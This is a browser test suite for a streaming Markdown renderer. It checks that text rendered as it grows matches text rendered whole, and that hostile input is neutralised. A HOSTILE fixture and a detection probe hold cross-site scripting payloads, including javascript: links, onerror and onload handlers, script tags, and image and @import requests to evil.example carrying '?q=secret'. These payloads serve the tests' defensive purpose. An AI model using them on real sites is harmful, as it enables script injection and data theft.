"""Streaming Markdown in Chromium: growing text equals whole text, and hostile text stays text."""

import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from orchestration.markdown import render_markdown
from tests.frontend.stage import Stage, serve

pytestmark = pytest.mark.browser

CORPUS = {
    "prose": "One *line*\nand another.\n\nA **new** one, `code`, a [link](https://a.example/?c=d&e).",
    "headings": "# One\n\n## Two\ntext right after\n\nSetext\n======\n\nThree\n-----\nend",
    "lists": "- a\n- b\n  - c\n\n    in c\n- d\n\n1. one\n2. two\n\n   para\n\n7. seven\n* other",
    "emphasis that continues a list": "- item\n*em* goes on\n\n- x\n**bold** too\n",
    "tasks": "- [ ] open\n- [x] closed\n",
    "fences": "before\n```python\ndef f():\n\n    return '```'\n```\nthen\n~~~\n``` no\n~~~~\nend",
    "open fence": "text\n```js\nlet a = 1;\nlet b",
    "long fence": "```\n" + "line of code\n" * 80 + "```\ndone\n",
    "indented fence": "- a\n  ```\n  x\n  ```\n- b\n\n  ```\n  y\n  ```",
    "tables": "para\n| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 \\| 5 |\n\nafter",
    "quotes": "> a\nlazy\n> b\n\n> c\n>> d\n\ntext",
    "rules and breaks": "a  \nb\\\nc\n\n---\n\n***\nend",
    "html": "<div>\n<b>raw</b>\n</div>\n\nx <i>y</i> <!-- c --> &amp; &lt;b&gt; &#128512; &copy;",
    "carriage returns": "a\r\nb\r\n\r\n- c\r\n- d\r\n\r\n```\r\nx\r\n```\r\n",
    "unicode": "🙂 👩‍🔬 é e\u0301 漢字 עברית العربية\n\n- 🙂\n- *漢字*\n",
    "later reference": "See [the docs][d].\n\nMore text.\n\n[d]: https://docs.example/\n",
    "unclosed": "**bold that never ends\n\n`code that never ends\n\n[link](https://a.example",
    "image": "before ![alt *text*](https://evil.example/?q=secret) after",
}

PAGE = Path(__file__).with_name("markdown_page.html")


@pytest.fixture(scope="module")
def markdown(chromium: Browser) -> Iterator[Page]:
    """A page on which markdown.js is loaded, under the product's own policy."""
    with serve(Stage(pages={"/": PAGE.read_text()})) as stage:
        page = chromium.new_page()
        page.goto(stage.url)
        page.wait_for_function("() => window.ready")
        yield page
        page.close()


@pytest.mark.parametrize("size", [1, 3, 7, 64])
@pytest.mark.parametrize("name", CORPUS)
def test_text_that_grew_ends_as_text_drawn_at_once(markdown: Page, name: str, size: int) -> None:
    text = CORPUS[name]
    assert markdown.evaluate("([t, s]) => grown(t, [s], true)", [text, size]) == markdown.evaluate(
        "whole", text
    )


@pytest.mark.parametrize("name", [name for name in CORPUS if name != "later reference"])
def test_frozen_blocks_are_right_before_the_end_already(markdown: Page, name: str) -> None:
    # A line end, because inside an open fence only whole lines are shown; the rest is at finish().
    text = CORPUS[name] + "\n"
    for size in (1, 3, 7):
        drawn = markdown.evaluate("([t, s]) => grown(t, [s], false)", [text, size])
        assert drawn.replace("\n</code>", "</code>") == markdown.evaluate("whole", text)


def test_random_documents_cut_at_random_grow_into_the_same(markdown: Page) -> None:
    source = random.Random(41)
    for _ in range(150):
        pieces = source.choices(list(CORPUS.values()), k=source.randint(1, 4))
        text = source.choice(["\n", "\n\n"]).join(pieces)
        sizes = [source.randint(1, 40) for _ in range(9)]
        assert markdown.evaluate("([t, s]) => grown(t, s, true)", [text, sizes]) == (
            markdown.evaluate("whole", text)
        ), (text, sizes)


def test_finished_blocks_keep_their_nodes_and_the_readers_selection(markdown: Page) -> None:
    kept = markdown.evaluate(
        """() => {
          const box = document.getElementById("out");
          const growing = new Incremental(box);
          growing.push("First paragraph.\\n\\nSecond one.\\n\\n");
          growing.draw();
          const first = box.firstChild;
          getSelection().selectAllChildren(first);
          for (let n = 0; n < 500; n += 1) { growing.push(`word ${n} `); growing.draw(); }
          growing.finish();
          return [box.firstChild === first, getSelection().toString()];
        }"""
    )
    assert kept == [True, "First paragraph."]


HOSTILE = (
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1))"
    " [d](data:text/html,<script>alert(1)</script>) [r](//evil.example) [b](/\\evil.example)"
    " ![p](https://evil.example/?q=secret) ![](https://evil.example/p.png)"
    " <img src=https://evil.example/i onerror=alert(1)> <script>alert(1)</script>"
    " <style>@import 'https://evil.example/'</style> <form action=https://evil.example><input></form>"
    " <iframe src=https://evil.example></iframe> <svg onload=alert(1)> <b>hi</b>\n\n"
    "<div onclick=alert(1)>\nblock\n</div>\n\n<img src=https://evil.example/block>\n\n"
    "[ref][r]\n\n[r]: javascript:alert(1)\n\n<https://ok.example/> <javascript:alert(1)>\n"
)


def dangers(page: Page, html: str) -> Any:
    """Elements and attributes of `html` that could act, parsed by a browser but not run."""
    return page.evaluate(
        """html => {
          const box = new DOMParser();
          const found = box.parseFromString(html, "text/html").body;
          return [...found.querySelectorAll("*")].flatMap((node) => [
            /^(img|script|style|form|input|iframe|svg|object|embed|link|meta|base|video|audio)$/i
              .test(node.tagName) ? [node.tagName] : [],
            [...node.attributes].filter((a) => /^on|^style$|^src/.test(a.name)).map((a) => a.name),
            node.href && !/^(https?:\\/\\/|mailto:)/.test(node.getAttribute("href"))
              ? [node.getAttribute("href")] : [],
          ].flat());
        }""",
        html,
    )


@pytest.fixture(scope="module")
def bare(chromium: Browser) -> Iterator[Page]:
    """A page without a policy, to parse what the renderers made."""
    page = chromium.new_page()
    yield page
    page.close()


@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_hostile_text_stays_text_while_it_streams(markdown: Page, bare: Page, size: int) -> None:
    asked: list[str] = []
    markdown.on("request", lambda request: asked.append(request.url))
    html = markdown.evaluate("([t, s]) => grown(t, [s], true)", [HOSTILE, size])
    assert dangers(bare, html) == []
    assert "[image: p]" in html
    assert "&lt;script&gt;" in html
    assert asked == []


def test_hostile_text_stays_text_in_what_the_server_renders(bare: Page) -> None:
    html = render_markdown(HOSTILE)
    assert dangers(bare, html) == []
    assert "[image: p]" in html
    assert 'href="https://ok.example/"' in html


def test_the_probe_finds_what_it_looks_for(bare: Page) -> None:
    assert dangers(bare, "<img src=x onerror=y><a href='javascript:x'>z</a>") == [
        "IMG",
        "src",
        "onerror",
        "javascript:x",
    ]
